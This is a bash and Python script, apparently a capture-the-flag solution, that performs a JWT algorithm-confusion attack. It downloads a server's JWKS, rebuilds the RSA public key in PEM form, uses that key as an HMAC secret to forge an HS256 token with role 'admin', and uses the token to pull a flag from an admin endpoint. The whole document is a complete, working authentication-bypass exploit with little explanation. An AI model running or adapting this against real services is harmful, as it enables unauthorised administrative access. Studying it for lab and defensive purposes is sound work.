#!/bin/bash
# Algorithm confusion: the server verifies HS256 tokens with its RSA public
# key (the PEM text from `openssl rsa -pubout`) as the HMAC key. Rebuild that
# exact PEM from the JWKS (n, e), then MAC an admin token with it.
set -euo pipefail
curl -s http://api:8080/.well-known/jwks.json > jwks.json
python3 - <<'PY' > token.txt
import base64, hashlib, hmac, json
k = json.load(open("jwks.json"))["keys"][0]
ub = lambda s: base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))
b64u = lambda b: base64.urlsafe_b64encode(b).rstrip(b"=").decode()
def der(tag, body):
    n = len(body)
    ln = bytes([n]) if n < 128 else bytes([0x80 | ((n.bit_length() + 7) // 8)]) + n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag]) + ln + body
def dint(x):
    b = x.to_bytes((x.bit_length() + 8) // 8, "big")   # leading 0x00 when the top bit is set
    return der(0x02, b)
n, e = int.from_bytes(ub(k["n"]), "big"), int.from_bytes(ub(k["e"]), "big")
rsakey = der(0x30, dint(n) + dint(e))
algid = der(0x30, bytes.fromhex("06092a864886f70d010101") + b"\x05\x00")
spki = der(0x30, algid + der(0x03, b"\x00" + rsakey))
b = base64.b64encode(spki).decode()
pem = ("-----BEGIN PUBLIC KEY-----\n" + "\n".join(b[i:i + 64] for i in range(0, len(b), 64))
       + "\n-----END PUBLIC KEY-----\n").encode()
h = b64u(json.dumps({"alg": "HS256", "typ": "JWT", "kid": k["kid"]}).encode())
p = b64u(json.dumps({"sub": "guest", "role": "admin"}).encode())
print(h + "." + p + "." + b64u(hmac.new(pem, (h + "." + p).encode(), hashlib.sha256).digest()))
PY
curl -s -H "Authorization: Bearer $(cat token.txt)" http://api:8080/admin/report |
	grep -o 'flag{[0-9a-f]*}' | head -n1
